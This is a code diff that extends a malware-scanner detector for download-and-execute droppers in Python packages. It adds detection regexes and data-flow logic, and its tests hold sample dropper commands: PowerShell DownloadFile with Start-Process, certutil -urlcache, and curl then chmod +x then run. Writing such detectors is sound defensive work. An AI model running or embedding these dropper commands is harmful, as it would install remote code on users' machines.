@@ -1,7 +1,13 @@
 //! `execution.download-and-execute`: fetched content is run — `exec(urlopen(…)
 //! .read())`, `exec(requests.get(…).text)`, a download followed within a few lines
 //! by a process start / `os.startfile` / `chmod +x`, or a one-liner string such as
-//! `curl … | sh` or `iex (New-Object Net.WebClient).DownloadString(…)`.
+//! `curl … | sh` or `iex (New-Object Net.WebClient).DownloadString(…)`; a body saved to
+//! a path (variable or literal, e.g. built with `tempfile`/`os.path.join`) that a later
+//! statement runs, however far apart (data flow by name: same function, or a module-level
+//! name); a command string or script that downloads and then starts what it saved
+//! (`DownloadFile`/`Invoke-WebRequest -OutFile` + `Start-Process`, `certutil -urlcache`
+//! / `bitsadmin /transfer` then the `.exe`, `curl -o x && chmod +x x && ./x`). Command strings
+//! shown to a person (help text, `print`, log lines) are not commands.
 //!
 //! Python code only for calls; strings for one-liners. Never skipped (this is the
 //! dropper pattern itself) but capped by place (`context`): tests/docs/CI medium,
@@ -9,7 +15,7 @@
 
 use super::context;
 use super::net_downloads_file::{COMMAND, FETCH_API};
-use super::pysrc::{self, Kind, MAX_HITS_PER_FILE};
+use super::pysrc::{self, Kind, Source, MAX_HITS_PER_FILE};
 use super::sinks::{self, SinkKind};
 use crate::model::{Category, FileRole, Severity};
 use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
@@ -18,7 +24,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "execution.download-and-execute",
-    revision: 1,
+    revision: 2,
     title: "Downloads and executes code.",
     category: Category::Execution,
     severity: Severity::Critical,
@@ -37,6 +43,26 @@ static PIPE: LazyLock<Regex> = LazyLock::new(|| {
 static RUN_SAVED: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?-u:\b)os\.(?:startfile|chmod\s*\([^)\n]*0o?7[0-7][0-7])|(?-u:\b)stat\.S_IEXEC(?-u:\b)")
         .expect("run saved")
+});
+/// A download and a run in one command string or script: PowerShell `DownloadFile` /
+/// `Invoke-WebRequest -OutFile` then `Start-Process`, `certutil -urlcache` / `bitsadmin
+/// /transfer` then the file, `curl -o x && ./x`.
+static DROP_RUN: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)(?:\.downloadfile\s*\(|invoke-webrequest(?-u:\b)[^\n]*-outfile|(?-u:\b)iwr\s[^\n]*-outfile|start-bitstransfer|certutil(?:\.exe)?\s+-urlcache|bitsadmin(?:\.exe)?\s+/transfer|(?-u:\b)curl\s[^\n]*\s-o\s*[^\s'"]+|(?-u:\b)wget\s[^\n]*\s-O\s*[^\s-][^\s'"]*)[\s\S]{0,300}?(?P<run>start-process|(?-u:\b)saps\s|invoke-item|(?:&&|;|\n)\s*(?:start\s+[^\s'"]+|[^\s'"]+\.exe|(?:ba|z)?sh\s+[^\s'"]+|python[\d.]*\s+[^\s'"]+|\.?/[^\s'"]+))"#)
+        .expect("drop run")
+});
+/// Where a downloaded body is saved: the path argument of a save call or of a
+/// write-mode `open`, as an identifier or a string literal.
+static SAVED_TO: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?:urlretrieve|wget\.download|download_url_to_file|\.download_file)\s*\([^,()\n]+(?:\([^()\n]*\))?[^,()\n]*,\s*(?:out\s*=\s*)?(?P<a>[A-Za-z_][\w.]*|'[^'\n]+'|"[^"\n]+")|open\s*\(\s*(?P<b>[A-Za-z_][\w.]*|'[^'\n]+'|"[^"\n]+")\s*,\s*(?:mode\s*=\s*)?['"][wa]b?\+?['"]|(?P<c>[A-Za-z_][\w.]*)\.write_bytes\s*\("#)
+        .expect("saved to")
+});
+/// Text shown to a person (help, printed hints, log lines), not a command that runs.
+static SHOWN: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?:print|echo|secho|info|warning|warn|debug|error)\s*\(|(?:help|description|epilog|usage|msg|message)\s*=",
+    )
+    .expect("shown")
 });
 const WINDOW_LINES: usize = 30;
 /// A new function or class starts: the download and the run are unrelated.
@@ -70,6 +96,14 @@ impl Detector for DownloadExecute {
             "iex",
             "IEX",
             "Invoke-Expression",
+            "Invoke-WebRequest",
+            "invoke-webrequest",
+            "iwr",
+            "certutil",
+            "bitsadmin",
+            "Start-BitsTransfer",
+            "download_file",
+            "download_url_to_file",
         ])
     }
     fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
@@ -86,9 +120,33 @@ impl Detector for DownloadExecute {
                 hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, off, ind) });
             }
         };
+        // In Python, a command string counts when it is not text shown to a person
+        // (a CLI's `curl … | sh` install hint in help or a print).
+        let shown = |o: usize| {
+            let ls = file.text[..o].rfind('\n').map_or(0, |p| p + 1);
+            SHOWN.is_match(&file.text[ls..o])
+        };
         for m in PIPE.find_iter(file.text) {
-            if !src.python || src.kind_at(m.start()) == Kind::Str {
+            if !src.python || (src.kind_at(m.start()) == Kind::Str && !shown(m.start())) {
                 push(hits, m.start(), m.as_str().split_whitespace().next().unwrap_or("").trim_end_matches('('));
+            }
+        }
+        for c in DROP_RUN.captures_iter(file.text) {
+            let (m, run) = (c.get(0).expect("m"), c.name("run").expect("run"));
+            let one_string = |a: usize, b: usize| match (src.span_at(a), src.span_at(b)) {
+                (Some(x), Some(y)) => x.kind == Kind::Str && x.start == y.start,
+                _ => false,
+            };
+            if !src.python || (one_string(m.start(), m.end() - 1) && !shown(m.start())) {
+                let dl = m.as_str().split_whitespace().next().unwrap_or("").trim_start_matches('.');
+                let dl = dl.split('(').next().unwrap_or(dl).to_ascii_lowercase();
+                let run = run
+                    .as_str()
+                    .trim_start_matches(['&', ';', '\n', ' ', '\t'])
+                    .split_whitespace()
+                    .next()
+                    .unwrap_or("");
+                push(hits, m.start(), &format!("{dl} then {}", run.to_ascii_lowercase()));
             }
         }
         if !src.python {
@@ -111,7 +169,9 @@ impl Detector for DownloadExecute {
             .chain(
                 COMMAND
                     .find_iter(file.text)
-                    .filter(|m| src.kind_at(m.start()) == Kind::Str && !to_loopback(&file.text[m.end()..]))
+                    .filter(|m| {
+                        src.kind_at(m.start()) == Kind::Str && !to_loopback(&file.text[m.end()..]) && !shown(m.start())
+                    })
                     .map(|m| (m.start(), false)),
             )
             .collect();
@@ -141,7 +201,9 @@ impl Detector for DownloadExecute {
             .filter(|&o| src.is_code(o))
             .collect();
         let within = |v: &[usize], a: usize, b: usize| v.iter().any(|&x| x > a && x < b);
-        for (off, name) in runs {
+        let mut reported: Vec<usize> = Vec::new();
+        for (off, name) in &runs {
+            let (off, name) = (*off, name.as_str());
             let l = line(off);
             let follows = |&(s, needs_write): &(usize, bool)| {
                 s < off
@@ -151,7 +213,111 @@ impl Detector for DownloadExecute {
             };
             if saves.iter().any(follows) {
                 push(hits, off, &format!("download then {name}"));
+                reported.push(off);
             }
+        }
+        saved_then_run(file, &runs, &reported, &mut |off, ind| push(hits, off, &ind));
+    }
+}
+
+/// An interpreter or launcher right before a path in a command: `bash <p>`, `['sh', p]`,
+/// `sys.executable, p`, `chmod +x <p>`, `cmd /c <p>`, `start <p>`.
+static RUNNER: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)(?-u:\b)(?:(?:ba|z|c|k)?sh|python[\d.]*|py|pwsh|powershell(?:\.exe)?|cmd(?:\.exe)?\s*/c|wscript|cscript|mshta|rundll32|start|chmod\s+\+?[0-7x]+|sys\.executable|source)['"]?\s*[,\s]\s*(?:['"][^'"]*['"]\s*,\s*)*['"]?[^,]*$"#)
+        .expect("runner")
+});
+
+/// Start of the innermost `def` enclosing `off` (by indentation), or `None` at module or
+/// class level: the unit a variable name is trusted within.
+fn enclosing_def(src: &Source<'_>, off: usize) -> Option<usize> {
+    let t = src.text;
+    let line_start = |o: usize| t[..o].rfind('\n').map_or(0, |p| p + 1);
+    let indent = |ls: usize| t[ls..].len() - t[ls..].trim_start_matches([' ', '\t']).len();
+    let mut ls = line_start(off);
+    let mut level = indent(ls);
+    while ls > 0 {
+        ls = line_start(ls - 1);
+        let rest = &t[ls..];
+        let ind = indent(ls);
+        let body = rest[ind..].split('\n').next().unwrap_or("");
+        if body.trim().is_empty() || ind >= level || !src.is_code(ls + ind) {
+            continue;
+        }
+        if body.starts_with("def ") || body.starts_with("async def ") {
+            return Some(ls);
+        }
+        level = ind;
+        if ind == 0 {
+            return None;
+        }
+    }
+    None
+}
+
+/// A file that fetches, saves the body to a path (a variable or a literal) and later runs
+/// that same path, however far apart: data flow by name. A variable must be written and
+/// run in the same top-level function, or be assigned at module level; a literal path
+/// may be anywhere in the file.
+fn saved_then_run(
+    file: &TextFile<'_>,
+    runs: &[(usize, String)],
+    reported: &[usize],
+    push: &mut dyn FnMut(usize, String),
+) {
+    let src = file.source();
+    let t = file.text;
+    let fetches =
+        FETCH_API.find_iter(t).chain(super::net_downloads_file::SAVE_API.find_iter(t)).any(|m| src.is_code(m.start()));
+    if !fetches {
+        return;
+    }
+    let block_of = |o: usize| enclosing_def(src, o);
+    let saved: Vec<(usize, &str)> = SAVED_TO
+        .captures_iter(t)
+        .filter(|c| src.is_code(c.get(0).expect("m").start()))
+        .filter_map(|c| {
+            let p = c.name("a").or(c.name("b")).or(c.name("c"))?;
+            Some((p.start(), p.as_str()))
+        })
+        .collect();
+    for (off, name) in runs {
+        if reported.contains(off) {
+            continue;
+        }
+        let open = t[*off..].find('(').map_or(t.len(), |p| off + p + 1);
+        let arg = pysrc::call_argument(t, open, 400);
+        let hit = saved.iter().find(|&&(at, p)| {
+            if at >= *off {
+                return false;
+            }
+            let literal = p.starts_with(['\'', '"']);
+            let needle = if literal { p.trim_matches(['\'', '"']) } else { p };
+            // The saved file is what runs: the program itself, an interpreter's script, or
+            // the target of startfile/chmod — not an argument (`git clone URL <path>`).
+            let runs_it = |i: usize| {
+                let before = &arg[..i];
+                let first = before.trim_start_matches(|c: char| c.is_whitespace() || "[('\"f".contains(c)).is_empty();
+                let on_the_file = name.ends_with("startfile") || name.ends_with("chmod");
+                first || on_the_file || RUNNER.is_match(before)
+            };
+            let mentioned = arg.match_indices(needle).any(|(i, _)| {
+                let before = arg[..i].chars().next_back();
+                let after = arg[i + needle.len()..].chars().next();
+                (literal
+                    || !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.')
+                        && !after.is_some_and(|c| c.is_alphanumeric() || c == '_'))
+                    && runs_it(i)
+            });
+            let module_name = || {
+                t.match_indices(p).any(|(i, _)| {
+                    (i == 0 || t.as_bytes()[i - 1] == b'\n')
+                        && t[i + p.len()..].trim_start_matches([' ', '\t']).starts_with('=')
+                })
+            };
+            mentioned && (literal || block_of(at) == block_of(*off) || module_name())
+        });
+        if let Some((_, p)) = hit {
+            push(*off, format!("download saved to {p} then {name}"));
         }
     }
 }
@@ -197,10 +363,108 @@ mod tests {
                 ("exec of local version file", "setup.py", InstallTime, "exec(open('pkg/version.py').read())\n", None),
                 ("fetch name in a string then process", "pkg/a.py", Runtime, "code = \x27import urllib.request; urllib.request.urlopen(u)\x27\nsubprocess.Popen([sys.executable, \x27-c\x27, code])\n", None),
                 ("urlopen HEAD then a process in another function", "pkg/a.py", Runtime, "def a():\n    with urlopen(req) as d:\n        code = d.getcode()\n\ndef b():\n    subprocess.Popen([x])\n", None),
+                (
+                    "saved to a temp path, run 40 lines later in the same function",
+                    "pkg/a.py",
+                    Runtime,
+                    FLOW_FAR.as_str(),
+                    Some((44, "download saved to dst then subprocess.Popen", Critical)),
+                ),
+                (
+                    "module-level payload path fetched in one function, started in another",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import os, tempfile\nfrom urllib.request import urlretrieve\nPAYLOAD = os.path.join(tempfile.gettempdir(), 'svc.exe')\n\ndef fetch():\n    urlretrieve(U, PAYLOAD)\n\ndef launch():\n    os.startfile(PAYLOAD)\n",
+                    Some((9, "download saved to PAYLOAD then os.startfile", Critical)),
+                ),
+                (
+                    "literal dotfile path written then run by bash",
+                    "setup.py",
+                    InstallTime,
+                    "import requests, subprocess\ndef get():\n    r = requests.get(U)\n    with open('/tmp/.cache.sh', 'wb') as f:\n        f.write(r.content)\n\ndef go():\n    subprocess.call(['bash', '/tmp/.cache.sh'])\n",
+                    Some((8, "download saved to '/tmp/.cache.sh' then subprocess.call", Critical)),
+                ),
+                (
+                    "a saved path passed as an argument, not run (methods of one class)",
+                    "pkg/index.py",
+                    Runtime,
+                    "class Index:\n    def fetch(self, url, filename):\n        urlretrieve(url, filename)\n\n    def clone(self, url, filename):\n        os.system('git clone %s %s' % (url, filename))\n",
+                    None,
+                ),
+                (
+                    "saved and run by bash in one method",
+                    "pkg/index.py",
+                    Runtime,
+                    FLOW_METHOD.as_str(),
+                    Some((38, "download saved to path then os.system", Critical)),
+                ),
+                (
+                    "a local name reused in an unrelated function",
+                    "pkg/vcs.py",
+                    Runtime,
+                    "def fetch(u, path):\n    urlretrieve(u, path)\n\ndef clone(path):\n    subprocess.run(['git', 'clone', REPO, path])\n",
+                    None,
+                ),
+                (
+                    "powershell download then start in one command string",
+                    "pkg/a.py",
+                    Runtime,
+                    "subprocess.run(['powershell', '-w', 'hidden', '-c', \"(New-Object Net.WebClient).DownloadFile('http://example.org/a.exe', $env:TEMP + '\\\\a.exe'); Start-Process $env:TEMP\\\\a.exe\"])\n",
+                    Some((1, "downloadfile then start-process", Critical)),
+                ),
+                (
+                    "certutil download then run in a batch file",
+                    "pkg/tools/up.bat",
+                    Other,
+                    "certutil -urlcache -split -f http://example.org/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe\n",
+                    Some((1, "certutil then %temp%\\a.exe", High)),
+                ),
+                (
+                    "curl -o then chmod +x in setup.py",
+                    "setup.py",
+                    InstallTime,
+                    "import os\nos.system('curl -fsSL https://example.org/a -o /tmp/a && chmod +x /tmp/a && /tmp/a')\n",
+                    Some((2, "curl then /tmp/a", Critical)),
+                ),
+                (
+                    "download and chmod +x without running (a Makefile regenerating a script)",
+                    "pkg-1.0/Makefile",
+                    Other,
+                    "regen:\n\tcurl -sL -o config.guess 'https://example.org/config.guess'\n\tchmod +x config.guess\n",
+                    None,
+                ),
+                (
+                    "install hint in CLI help text",
+                    "pkg/cli.py",
+                    Runtime,
+                    "import subprocess\np.add_argument('--setup', help='first run: curl -fsSL https://example.org/i.sh | sh')\nsubprocess.run(['tool'])\n",
+                    None,
+                ),
+                (
+                    "install hint printed",
+                    "pkg/cli.py",
+                    Runtime,
+                    "print('Install the server with: curl -fsSL https://example.org/i.sh | sh')\n",
+                    None,
+                ),
                 ("response written then run", "pkg/a.py", Runtime, "r = requests.get(U)\nopen(p, \x27wb\x27).write(r.content)\nsubprocess.call([p])\n", Some((3, "download then subprocess.call", Critical))),
             ],
         );
     }
+
+    static FLOW_FAR: LazyLock<String> = LazyLock::new(|| {
+        format!(
+            "import os, tempfile, subprocess, urllib.request\ndef stage():\n    dst = os.path.join(tempfile.gettempdir(), 'u.exe')\n    body = urllib.request.urlopen(U).read()\n    open(dst, 'wb').write(body)\n{}    subprocess.Popen([dst])\n",
+            "    log('x')\n".repeat(38)
+        )
+    });
+
+    static FLOW_METHOD: LazyLock<String> = LazyLock::new(|| {
+        format!(
+            "class U:\n    def up(self):\n        path = self.tmp + '/u.sh'\n        urlretrieve(U, path)\n{}        os.system('bash %s' % path)\n",
+            "        self.log('x')\n".repeat(33)
+        )
+    });
 
     static FAR: LazyLock<String> =
         LazyLock::new(|| format!("r = requests.get(u)\n{}subprocess.run(['git', 'status'])\n", "x = 1\n".repeat(40)));
